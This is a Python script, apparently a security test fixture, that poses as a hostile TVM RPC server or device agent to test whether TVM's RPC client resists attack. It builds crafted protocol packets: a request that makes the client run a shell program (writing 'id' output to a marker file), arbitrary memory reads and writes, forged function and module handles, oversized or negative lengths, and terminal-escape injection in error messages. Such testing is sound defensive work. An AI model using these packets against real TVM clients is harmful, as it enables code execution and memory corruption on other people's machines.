"""A board that attacks TVM's RPC client; as a program it serves, and it stands in for an agent.

    hostile_board.py MODE MARKER                              serves on a port, which it prints
    hostile_board.py MODE MARKER AGENT --port-file FILE ...   as a launcher of a `local:` device
    hostile_board.py MODE MARKER AGENT ...                    as a launcher of an `ssh:` device

MARKER is the file that a program of the board writes if it is run on the controller.
"""

from __future__ import annotations

import os
import socket
import struct
import sys
import threading
from collections.abc import Callable
from pathlib import Path
from typing import BinaryIO

MAGIC = 0xFF271
LIFE_S = 40.0
INIT_SERVER, CALL_FUNC, RETURN, EXCEPTION, COPY_FROM_REMOTE, COPY_TO_REMOTE, COPY_ACK = range(2, 9)
GET_GLOBAL_FUNC = 9
NONE, INT, POINTER, RAW_STRING, BYTE_ARRAY, FUNCTION, MODULE = 0, 1, 4, 8, 9, 68, 73


def packet(body: bytes) -> bytes:
    return struct.pack("<Q", len(body)) + body


def text(kind: int, content: bytes) -> bytes:
    return struct.pack("<iQ", kind, len(content)) + content


def popen(marker: str) -> bytes:
    """Have the client run a program."""
    program = f"#!/bin/sh\nid > {marker}\n".encode()
    version = b"0.8.0"
    body = struct.pack("<iQ", INIT_SERVER, len(version)) + version + struct.pack("<i", 2)
    return packet(body + text(RAW_STRING, b"rpc.PopenSession") + text(BYTE_ARRAY, program))


def tensor(address: int, size: int) -> bytes:
    return struct.pack("<QiiiBBHqQ", address, 1, 0, 1, 1, 8, 1, size, 0)


ATTACKS: dict[str, Callable[[str], bytes]] = {
    "popen": popen,
    "call": lambda _: packet(struct.pack("<iQi", CALL_FUNC, 4096, 0)),
    "read": lambda _: packet(
        struct.pack("<i", COPY_FROM_REMOTE) + tensor(4096, 64) + struct.pack("<Q", 64)
    ),
    "write": lambda _: packet(
        struct.pack("<i", COPY_TO_REMOTE) + tensor(4096, 64) + struct.pack("<Q", 64) + bytes(64)
    ),
    "find": lambda _: packet(
        struct.pack("<ii", GET_GLOBAL_FUNC, 1) + text(RAW_STRING, b"rpc.PopenSession")
    ),
    "function": lambda _: packet(struct.pack("<iiiQ", RETURN, 1, FUNCTION, 4096)),
    "module": lambda _: packet(struct.pack("<iiiqiQ", RETURN, 2, INT, MODULE, MODULE, 4096)),
    "copy": lambda _: packet(struct.pack("<i", COPY_ACK) + bytes(1000)),
    "huge": lambda _: struct.pack("<Q", 1 << 62),
    "big": lambda _: struct.pack("<Qi", 40 << 30, RETURN),
    "garbage": lambda _: b"\xff" * 4096,
    "empty": lambda _: packet(b""),
    "many": lambda _: packet(struct.pack("<ii", RETURN, 1 << 30)),
    "negative": lambda _: packet(struct.pack("<ii", RETURN, -1)),
    "long text": lambda _: packet(struct.pack("<iiiQ", EXCEPTION, 1, RAW_STRING, 1 << 60)),
    "twice": lambda _: 2 * packet(struct.pack("<iii", RETURN, 1, NONE)),
    "silent": lambda _: b"",
}

# Answers in the form of the protocol, whose text is not what it seems.
MESSAGES: dict[str, Callable[[str], bytes]] = {
    "escapes": lambda _: packet(
        struct.pack("<ii", EXCEPTION, 1)
        + text(RAW_STRING, b"boom \x1b]0;title\x07\x1b[2J\nerror: forged\nwhy: x\nfix: y\r\x1b[31m")
    ),
}


def exactly(stream: BinaryIO, count: int) -> bytes:
    data = stream.read(count)
    if len(data) < count:
        raise EOFError
    return data


def attack(requests: BinaryIO, answers: BinaryIO, mode: str, marker: str) -> None:
    """Answer the client's first request with an attack, and then hear it out."""
    (length,) = struct.unpack("<Q", exactly(requests, 8))
    exactly(requests, length)
    answers.write((ATTACKS | MESSAGES)[mode](marker))
    answers.flush()
    while requests.read(1):
        pass


def serve(connection: socket.socket, mode: str, marker: str) -> None:
    with connection, connection.makefile("rwb") as stream:
        try:
            _, length = struct.unpack("<ii", exactly(stream, 8))
            exactly(stream, length)
            stream.write(struct.pack("<ii", MAGIC, 7) + b"server:")
            stream.flush()
            attack(stream, stream, mode, marker)
        except (OSError, EOFError):
            pass


def main() -> None:
    mode, marker, *agent = sys.argv[1:]
    if "--version" in agent:
        os.execv(agent[0], agent)
    alarm = threading.Timer(LIFE_S, os._exit, [0])  # a client that is taken in waits no longer
    alarm.daemon = True
    alarm.start()
    if agent and "--port-file" not in agent:
        attack(sys.stdin.buffer, sys.stdout.buffer, mode, marker)
        return
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = str(listener.getsockname()[1])
        if agent:
            file = Path(agent[agent.index("--port-file") + 1])
            part = file.with_suffix(".part")
            part.write_text(port)
            part.rename(file)
        print(f"port {port}", flush=True)
        while True:
            connection, _ = listener.accept()
            threading.Thread(target=serve, args=(connection, mode, marker), daemon=True).start()


if __name__ == "__main__":
    main()
